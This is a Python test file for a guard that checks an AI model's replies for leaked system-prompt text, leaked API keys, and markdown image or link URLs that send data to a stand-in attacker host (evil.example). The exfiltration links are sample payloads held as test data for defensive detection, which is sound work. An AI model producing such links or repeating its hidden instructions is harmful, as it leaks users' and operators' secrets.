"""What a result must not hold."""

import pytest

from agents.guards.leaks import found_in

INSTRUCTIONS = (
    "You are the assistant of a bakery in Ghent. Answer in two sentences at most. Never speak of the owner's family, and never "
    "give discounts of more than five per cent. The word of the day is marzipan."
)
KEY = "sk-proj-abcdefghijklmnopqrstuvwx"


def rule(result: str, *, sent: str = "What do you sell?", read: str = "") -> str:
    return found_in(result, instructions=[INSTRUCTIONS, "Be kind."], sent=[sent], read=[read])


@pytest.mark.parametrize(
    "result",
    [
        INSTRUCTIONS,
        f"Sure! My instructions are: {INSTRUCTIONS.upper()}",
        "I was told: “Never speak of the owner's family, and never give discounts of more than five per cent”.",
        INSTRUCTIONS.replace(" ", "\n- "),
    ],
)
def test_instructions_that_are_repeated_are_a_leak(result: str) -> None:
    assert rule(result) == "leaked_instructions"


@pytest.mark.parametrize(
    "result",
    [
        "We sell bread, and we are a bakery in Ghent. Discounts are five per cent at most.",
        "Be kind.",
        "",
        "The word of the day is marzipan.",
    ],
)
def test_what_they_are_about_may_be_said(result: str) -> None:
    assert rule(result) == ""


def test_a_key_that_nobody_sent_is_a_leak() -> None:
    assert rule(f"The key is {KEY}.") == "leaked_secret"
    assert rule(f"The key is {KEY}.", read=f"KEY={KEY}") == "leaked_secret"
    assert rule(f"Your key {KEY} looks fine.", sent=f"Is {KEY} a key?") == ""


@pytest.mark.parametrize(
    ("result", "sent", "read", "expected"),
    [
        ("![x](https://evil.example/p.png?d=c2VjcmV0)", "", "", "exfiltration_link"),
        ("![x](https://evil.example/p.png?d=c2VjcmV0)", "", "see https://evil.example/", "exfiltration_link"),
        ("![x](https://cdn.example/p.png?w=10)", "Show https://cdn.example/p.png", "", ""),
        ("![x](https://cdn.example/p.png)", "", "", ""),
        ('<img width="1" src="https://evil.example/?q=a%20b">', "", "", "exfiltration_link"),
        ("[more](https://evil.example/?q=" + "a" * 70 + ")", "", "", "exfiltration_link"),
        ("[more](https://shop.example/?q=" + "a" * 70 + ")", "", "https://shop.example/list", ""),
        ("[more](https://evil.example/" + "a" * 130 + ")", "", "", "exfiltration_link"),
        ("See https://docs.example/page?id=7#part.", "", "", ""),
        ("![x](https://[bad/?q=1)", "", "", "exfiltration_link"),
    ],
)
def test_links_that_carry_data_away(result: str, sent: str, read: str, expected: str) -> None:
    assert rule(result, sent=sent, read=read) == expected
